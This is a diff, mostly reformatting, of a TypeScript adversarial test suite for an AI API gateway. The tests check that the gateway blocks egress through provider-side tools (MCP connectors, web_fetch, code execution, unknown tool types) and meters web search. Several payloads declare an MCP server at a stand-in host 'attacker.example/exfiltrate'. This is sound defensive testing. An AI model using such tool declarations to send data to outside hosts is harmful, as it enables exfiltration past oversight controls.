@@ -20,18 +20,64 @@ const ATTACKER = 'https://attacker.example/exfiltrate';
 
 /** Every form of provider-side egress (or unmetered server tool) a container could declare. */
 const EGRESS: { name: string; path: string; body: string; toolClass: string; declaredAs: string }[] = [
-  { name: 'Anthropic MCP connector', path: '/v1/messages', toolClass: 'mcp', declaredAs: 'mcp_servers', body: message({ mcp_servers: [{ type: 'url', url: ATTACKER, name: 'x' }] }) },
-  { name: 'Anthropic mcp_toolset', path: '/v1/messages', toolClass: 'mcp', declaredAs: 'mcp_toolset', body: message({ tools: [{ type: 'mcp_toolset', mcp_server_name: 'x' }] }) },
-  { name: 'Anthropic web_fetch', path: '/v1/messages', toolClass: 'web_fetch', declaredAs: 'web_fetch_20250910', body: message({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }) },
-  { name: 'Anthropic code execution', path: '/v1/messages', toolClass: 'code_execution', declaredAs: 'code_execution_20250825', body: message({ tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }) },
-  { name: 'OpenAI remote MCP', path: '/v1/responses', toolClass: 'mcp', declaredAs: 'mcp', body: responses({ tools: [{ type: 'mcp', server_label: 'x', server_url: ATTACKER, require_approval: 'never' }] }) },
-  { name: 'OpenAI code interpreter', path: '/v1/responses', toolClass: 'code_execution', declaredAs: 'code_interpreter', body: responses({ tools: [{ type: 'code_interpreter', container: { type: 'auto' } }] }) },
-  { name: 'OpenAI image generation', path: '/v1/responses', toolClass: 'image_generation', declaredAs: 'image_generation', body: responses({ tools: [{ type: 'image_generation' }] }) },
+  {
+    name: 'Anthropic MCP connector',
+    path: '/v1/messages',
+    toolClass: 'mcp',
+    declaredAs: 'mcp_servers',
+    body: message({ mcp_servers: [{ type: 'url', url: ATTACKER, name: 'x' }] }),
+  },
+  {
+    name: 'Anthropic mcp_toolset',
+    path: '/v1/messages',
+    toolClass: 'mcp',
+    declaredAs: 'mcp_toolset',
+    body: message({ tools: [{ type: 'mcp_toolset', mcp_server_name: 'x' }] }),
+  },
+  {
+    name: 'Anthropic web_fetch',
+    path: '/v1/messages',
+    toolClass: 'web_fetch',
+    declaredAs: 'web_fetch_20250910',
+    body: message({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }),
+  },
+  {
+    name: 'Anthropic code execution',
+    path: '/v1/messages',
+    toolClass: 'code_execution',
+    declaredAs: 'code_execution_20250825',
+    body: message({ tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }),
+  },
+  {
+    name: 'OpenAI remote MCP',
+    path: '/v1/responses',
+    toolClass: 'mcp',
+    declaredAs: 'mcp',
+    body: responses({ tools: [{ type: 'mcp', server_label: 'x', server_url: ATTACKER, require_approval: 'never' }] }),
+  },
+  {
+    name: 'OpenAI code interpreter',
+    path: '/v1/responses',
+    toolClass: 'code_execution',
+    declaredAs: 'code_interpreter',
+    body: responses({ tools: [{ type: 'code_interpreter', container: { type: 'auto' } }] }),
+  },
+  {
+    name: 'OpenAI image generation',
+    path: '/v1/responses',
+    toolClass: 'image_generation',
+    declaredAs: 'image_generation',
+    body: responses({ tools: [{ type: 'image_generation' }] }),
+  },
 ];
 
 const headersFor = (urlPath: string) => (urlPath === '/v1/messages' ? anthropicHeaders() : openaiHeaders());
 
-async function withFixture(options: Parameters<typeof startFixture>[1], run: (fx: Fixture) => Promise<void>, standin: Parameters<typeof startFixture>[0] = {}): Promise<void> {
+async function withFixture(
+  options: Parameters<typeof startFixture>[1],
+  run: (fx: Fixture) => Promise<void>,
+  standin: Parameters<typeof startFixture>[0] = {},
+): Promise<void> {
   const fx = await startFixture(standin, options);
   try {
     await run(fx);
@@ -64,13 +110,28 @@ describe('adversary: egress through server-side tools', () => {
   test('an unknown tool type is refused by name', async () => {
     await withFixture({}, async (fx) => {
       const key = await fx.gateway.mint({ group: 'g' });
-      const anthropic = await request({ socketPath: key.socketPath, path: '/v1/messages', headers: anthropicHeaders(), body: message({ tools: [{ type: 'url_context_20990101', name: 'x' }] }) });
+      const anthropic = await request({
+        socketPath: key.socketPath,
+        path: '/v1/messages',
+        headers: anthropicHeaders(),
+        body: message({ tools: [{ type: 'url_context_20990101', name: 'x' }] }),
+      });
       assert.equal(anthropic.status, 403);
       assert.match(anthropic.body, /tool type \\"url_context_20990101\\" is not one the gateway knows/);
-      const openai = await request({ socketPath: key.socketPath, path: '/v1/responses', headers: openaiHeaders(), body: responses({ tools: [{ type: 'browser' }] }) });
+      const openai = await request({
+        socketPath: key.socketPath,
+        path: '/v1/responses',
+        headers: openaiHeaders(),
+        body: responses({ tools: [{ type: 'browser' }] }),
+      });
       assert.equal(openai.status, 403);
       assert.match(openai.body, /browser/);
-      const untyped = await request({ socketPath: key.socketPath, path: '/v1/responses', headers: openaiHeaders(), body: responses({ tools: [{ name: 'x' }] }) });
+      const untyped = await request({
+        socketPath: key.socketPath,
+        path: '/v1/responses',
+        headers: openaiHeaders(),
+        body: responses({ tools: [{ name: 'x' }] }),
+      });
       assert.equal(untyped.status, 403, 'a Responses tool without a type is not assumed to be a function');
       assert.equal(fx.standin.requests.length, 0);
     });
@@ -124,12 +185,22 @@ describe('adversary: egress through server-side tools', () => {
       const refused = await request({ socketPath: locked.socketPath, path: '/v1/messages', headers: anthropicHeaders(), body: fetchBody });
       assert.equal(refused.status, 403);
       assert.match(refused.body, /group locked may not use the provider's web_fetch tool.*allowed server tools: none.*groupServerTools/);
-      const search = await request({ socketPath: locked.socketPath, path: '/v1/messages', headers: anthropicHeaders(), body: message({ tools: [{ type: 'web_search_20250305', name: 'web_search' }] }) });
+      const search = await request({
+        socketPath: locked.socketPath,
+        path: '/v1/messages',
+        headers: anthropicHeaders(),
+        body: message({ tools: [{ type: 'web_search_20250305', name: 'web_search' }] }),
+      });
       assert.equal(search.status, 403, 'even web search, when the group allows none');
 
       // A key may turn web search off.
       const none = await fx.gateway.mint({ group: 'g', serverTools: [] });
-      const noSearch = await request({ socketPath: none.socketPath, path: '/v1/chat/completions', headers: openaiHeaders(), body: chat({ web_search_options: {} }) });
+      const noSearch = await request({
+        socketPath: none.socketPath,
+        path: '/v1/chat/completions',
+        headers: openaiHeaders(),
+        body: chat({ web_search_options: {} }),
+      });
       assert.equal(noSearch.status, 403);
       assert.match(noSearch.body, /web_search tool \(web_search_options\)/);
       assert.equal(fx.standin.requests.length, 2);
@@ -144,7 +215,13 @@ describe('adversary: egress through server-side tools', () => {
   });
 
   test('web search is metered per use from Anthropic usage blocks and streams', async () => {
-    const json = { id: 'msg_1', type: 'message', role: 'assistant', content: [], usage: { input_tokens: 1000, output_tokens: 200, server_tool_use: { web_search_requests: 3 } } };
+    const json = {
+      id: 'msg_1',
+      type: 'message',
+      role: 'assistant',
+      content: [],
+      usage: { input_tokens: 1000, output_tokens: 200, server_tool_use: { web_search_requests: 3 } },
+    };
     const stream = [
       'event: message_start\ndata: {"type":"message_start","message":{"id":"msg_2","usage":{"input_tokens":1000,"output_tokens":1}}}\n\n',
       'event: content_block_start\ndata: {"type":"content_block_start","index":0,"content_block":{"type":"server_tool_use","id":"srvtoolu_1","name":"web_search","input":{}}}\n\n',
@@ -158,7 +235,10 @@ describe('adversary: egress through server-side tools', () => {
         const key = await fx.gateway.mint({ group: 'g' });
         const tools = [{ type: 'web_search_20250305', name: 'web_search', max_uses: 5 }];
         assert.equal((await request({ socketPath: key.socketPath, path: '/v1/messages', headers: anthropicHeaders(), body: message({ tools }) })).status, 200);
-        assert.equal((await request({ socketPath: key.socketPath, path: '/v1/messages', headers: anthropicHeaders(), body: message({ tools, stream: true }) })).status, 200);
+        assert.equal(
+          (await request({ socketPath: key.socketPath, path: '/v1/messages', headers: anthropicHeaders(), body: message({ tools, stream: true }) })).status,
+          200,
+        );
         await eventually(() => fx.calls.length === 2);
         const tokens = (1000 * 3 + 200 * 15) / 1e6;
         const [plain, streamed] = fx.calls;
@@ -183,7 +263,11 @@ describe('adversary: egress through server-side tools', () => {
   test('web search is metered per use from OpenAI web_search_call items, JSON and stream, at the configured price', async () => {
     const usage = { input_tokens: 1000, output_tokens: 100, input_tokens_details: { cached_tokens: 0 } };
     const search = (id: string) => ({ type: 'web_search_call', id, status: 'completed', action: { type: 'search', query: 'q' } });
-    const text = { type: 'message', role: 'assistant', content: [{ type: 'output_text', text: 'the \\"web_search_call\\" item and "type":"web_search_call" inside text do not count' }] };
+    const text = {
+      type: 'message',
+      role: 'assistant',
+      content: [{ type: 'output_text', text: 'the \\"web_search_call\\" item and "type":"web_search_call" inside text do not count' }],
+    };
     // Pretty-printed, as OpenAI sends non-streaming bodies.
     const json = JSON.stringify({ id: 'resp_1', object: 'response', output: [search('ws_1'), search('ws_2'), text], usage }, null, 2);
     const completed = { id: 'resp_2', object: 'response', output: [search('ws_3'), text], usage };
@@ -198,7 +282,10 @@ describe('adversary: egress through server-side tools', () => {
         const key = await fx.gateway.mint({ group: 'g' });
         const tools = [{ type: 'web_search' }];
         assert.equal((await request({ socketPath: key.socketPath, path: '/v1/responses', headers: openaiHeaders(), body: responses({ tools }) })).status, 200);
-        assert.equal((await request({ socketPath: key.socketPath, path: '/v1/responses', headers: openaiHeaders(), body: responses({ tools, stream: true }) })).status, 200);
+        assert.equal(
+          (await request({ socketPath: key.socketPath, path: '/v1/responses', headers: openaiHeaders(), body: responses({ tools, stream: true }) })).status,
+          200,
+        );
         await eventually(() => fx.calls.length === 2);
         const tokens = (1000 * 1.25 + 100 * 10) / 1e6;
         const [plain, streamed] = fx.calls;
@@ -221,7 +308,10 @@ describe('adversary: egress through server-side tools', () => {
   test('a chat search call is charged one search', async () => {
     await withFixture({}, async (fx) => {
       const key = await fx.gateway.mint({ group: 'g' });
-      assert.equal((await request({ socketPath: key.socketPath, path: '/v1/chat/completions', headers: openaiHeaders(), body: chat({ web_search_options: {} }) })).status, 200);
+      assert.equal(
+        (await request({ socketPath: key.socketPath, path: '/v1/chat/completions', headers: openaiHeaders(), body: chat({ web_search_options: {} }) })).status,
+        200,
+      );
       await eventually(() => fx.calls.length === 1);
       assert.equal(fx.calls[0]!.webSearchRequests, 1);
       assert.ok(fx.calls[0]!.costUsd >= 0.01);
@@ -248,8 +338,14 @@ describe('adversary: egress through server-side tools', () => {
     await withFixture({}, async (fx) => {
       const key = await fx.gateway.mint({ group: 'g', budgetUsd: 5 });
       const plain = message({ tools: [{ name: 'Bash', input_schema: {} }] });
-      const searching = message({ tools: [{ name: 'Bash', input_schema: {} }, { type: 'web_search_20250305', name: 'web_search', max_uses: 50 }] });
-      for (const body of [plain, searching]) assert.equal((await request({ socketPath: key.socketPath, path: '/v1/messages', headers: anthropicHeaders(), body })).status, 200);
+      const searching = message({
+        tools: [
+          { name: 'Bash', input_schema: {} },
+          { type: 'web_search_20250305', name: 'web_search', max_uses: 50 },
+        ],
+      });
+      for (const body of [plain, searching])
+        assert.equal((await request({ socketPath: key.socketPath, path: '/v1/messages', headers: anthropicHeaders(), body })).status, 200);
       await eventually(() => fx.calls.length === 2);
       const extra = fx.calls[1]!.reservedUsd! - fx.calls[0]!.reservedUsd!;
       assert.ok(extra >= 0.5 && extra < 0.501, `50 searches at $0.01 reserved: +$${extra}`);
